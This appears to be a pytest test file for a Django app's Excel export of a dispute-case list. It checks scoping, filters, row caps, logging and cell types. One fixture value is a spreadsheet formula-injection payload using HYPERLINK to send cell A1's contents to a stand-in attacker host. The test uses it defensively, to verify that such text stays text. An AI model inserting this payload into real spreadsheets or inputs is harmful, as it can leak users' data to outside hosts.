"""The case list as Excel: the 导出 Excel link of the case list page (reports.views.
case_export_view) and GET /api/v1/cases/export.xlsx (reports.apis.CaseExportApi)."""

from __future__ import annotations

import datetime as dt
import io
import logging
from typing import Any
from urllib.parse import unquote

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from cases.models import Case, CaseParty
from tests.api.conftest import api as api_client
from tests.api.conftest import assert_error
from tests.factories import CaseFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

#: api(user) -> a client that sends the user's token (tests/api/conftest.py).
api = api_client


@pytest.fixture
def cases(world: Any, clerk: Any) -> dict[str, Case]:
    """One case in the district, two in the town (one of them about social insurance, its
    applicant's name looking like a formula), one in the other town."""
    made = {
        "district": CaseFactory(organization=world.district, created_by=clerk),
        "town": CaseFactory(organization=world.town, created_by=clerk),
        "town_soc": CaseFactory(organization=world.town, created_by=clerk, dispute_type="SOC"),
        "other_town": CaseFactory(organization=world.other_town, created_by=clerk),
    }
    person = CaseParty.objects.get(case=made["town_soc"], side="applicant").person
    person.name = FORMULA
    person.save()
    return made


def _rows(response: Any) -> list[tuple[Any, ...]]:
    assert response.status_code == 200, response.content[:500]
    assert response["Content-Type"] == XLSX_TYPE
    workbook = load_workbook(io.BytesIO(b"".join(response) if response.streaming else response.content))
    return list(workbook.active.iter_rows(values_only=True))


def _applicants(response: Any) -> set[str]:
    rows = _rows(response)
    assert rows[0][5] == "申请人"
    return {r[5] for r in rows[1:]}


def _name(case: Case) -> str:
    return CaseParty.objects.get(case=case, side="applicant").person.name


def _login(client: Client, user: Any) -> Client:
    client.force_login(user)
    return client


# --- the page ----------------------------------------------------------------------------------------


def test_the_case_list_links_to_the_export_with_its_filters(client, cases, director):
    html = _login(client, director).get("/cases/?dispute_type=SOC&page=1").content.decode()

    assert 'href="/reports/cases/export.xlsx?' in html and "导出 Excel" in html
    link = html.split('href="/reports/cases/export.xlsx?', 1)[1].split('"', 1)[0]
    assert "dispute_type=SOC" in link and "page=" not in link


def test_the_export_is_an_attachment_named_by_the_date(client, cases, director):
    response = _login(client, director).get("/reports/cases/export.xlsx")

    disposition = unquote(response["Content-Disposition"])
    assert disposition.startswith("attachment;")
    assert f"案件清单-{timezone.localdate():%Y%m%d}.xlsx" in disposition
    assert response["Cache-Control"] == "private, no-store"
    assert len(_rows(response)) == 1 + 4


def test_the_export_holds_only_the_users_scope(client, cases, town_clerk):
    response = _login(client, town_clerk).get("/reports/cases/export.xlsx")

    assert _applicants(response) == {_name(cases["town"]), FORMULA}


def test_the_export_applies_the_filters_of_the_list(client, cases, director):
    _login(client, director)

    assert _applicants(client.get("/reports/cases/export.xlsx?organization=JG")) == {_name(cases["other_town"])}
    assert _applicants(client.get("/reports/cases/export.xlsx?dispute_type=SOC")) == {FORMULA}
    page = client.get("/cases/?organization=XHM&dispute_type=PAY")
    export = client.get("/reports/cases/export.xlsx?organization=XHM&dispute_type=PAY")
    assert _applicants(export) == {_name(c) for c in page.context["page"].object_list} == {_name(cases["town"])}


def test_a_town_clerk_cannot_widen_the_scope_by_filter(client, cases, town_clerk):
    response = _login(client, town_clerk).get("/reports/cases/export.xlsx?organization=JG")

    assert _rows(response)[1:] == []


def test_formula_looking_text_stays_text(client, cases, director):
    response = _login(client, director).get("/reports/cases/export.xlsx?dispute_type=SOC")

    workbook = load_workbook(io.BytesIO(response.content))
    cell = workbook.active.cell(row=2, column=6)
    assert cell.value == FORMULA
    assert cell.data_type == "s" and cell.quotePrefix
    amount = workbook.active.cell(row=2, column=11)
    assert amount.data_type == "n" and amount.number_format == "#,##0.00"


def test_every_export_is_logged_without_the_keyword(client, cases, director, caplog):
    with caplog.at_level(logging.INFO, logger="reports.views"):
        _login(client, director).get("/reports/cases/export.xlsx?q=11010519491231002X&organization=XHM")

    (record,) = [r for r in caplog.records if "case list export" in r.getMessage()]
    assert "director" in record.getMessage() and "['organization', 'q']" in record.getMessage()
    assert "11010519491231002X" not in record.getMessage()


def test_an_export_above_the_cap_is_refused_with_a_message(client, cases, director, monkeypatch):
    monkeypatch.setattr("reports.views.EXPORT_MAX_ROWS", 2)

    response = _login(client, director).get("/reports/cases/export.xlsx?dispute_type=PAY", follow=True)

    assert response.redirect_chain[-1][0] == "/cases/?dispute_type=PAY"
    assert "超过导出上限 2 件" in response.content.decode()
    assert _applicants(client.get("/reports/cases/export.xlsx?dispute_type=SOC")) == {FORMULA}


def test_a_malformed_date_is_a_message_not_a_500(client, cases, director):
    response = _login(client, director).get("/reports/cases/export.xlsx?received_from=2024-99-99")

    assert response.status_code == 302


def test_the_export_needs_a_login(client, cases):
    response = client.get("/reports/cases/export.xlsx")
    assert response.status_code == 302 and response["Location"].startswith("/accounts/login/")


def test_the_export_costs_the_same_queries_for_more_cases(
    client, world, clerk, director, django_assert_max_num_queries
):
    for _ in range(12):
        CaseFactory(organization=world.town, created_by=clerk)
    _login(client, director)
    with django_assert_max_num_queries(8):
        assert len(_rows(client.get("/reports/cases/export.xlsx"))) == 13


# --- the API ------------------------------------------------------------------------------------------


def test_the_api_export_applies_the_filters_and_the_scope(api, cases, director, town_clerk):
    response = api(director).get("/api/v1/cases/export.xlsx", {"organization": "XHM"})
    assert _applicants(response) == {_name(cases["town"]), FORMULA}
    assert "attachment;" in response["Content-Disposition"]

    assert _applicants(api(town_clerk).get("/api/v1/cases/export.xlsx")) == {_name(cases["town"]), FORMULA}
    assert _rows(api(town_clerk).get("/api/v1/cases/export.xlsx", {"organization": "JG"}))[1:] == []


def test_the_api_export_refuses_bad_filters_and_anonymous_callers(api, cases, director, monkeypatch):
    assert_error(api(director).get("/api/v1/cases/export.xlsx", {"received_from": "x"}), 400, "invalid")
    assert_error(api(director).get("/api/v1/cases/export.xlsx", {"status": "nope"}), 400, "invalid")
    assert_error(api(None).get("/api/v1/cases/export.xlsx"), 401, "not_authenticated")
    monkeypatch.setattr("reports.apis.EXPORT_MAX_ROWS", 3)
    error = assert_error(api(director).get("/api/v1/cases/export.xlsx"), 400, "invalid")
    assert "超过导出上限" in error["message"]


def test_the_api_export_is_in_the_schema_as_binary(api, db):
    schema = api(None).get("/api/schema/?format=json").json()
    operation = schema["paths"]["/api/v1/cases/export.xlsx"]["get"]

    content = operation["responses"]["200"]["content"]
    assert content[XLSX_TYPE]["schema"] == {"type": "string", "format": "binary"}
    assert {p["name"] for p in operation["parameters"]} >= {"q", "status", "organization", "received_from"}
    assert {"400", "401", "default"} <= set(operation["responses"])


def test_dates_are_dates(client, cases, director):
    rows = _rows(_login(client, director).get("/reports/cases/export.xlsx?organization=JG"))
    assert rows[1][7] is None or isinstance(rows[1][7], dt.datetime)
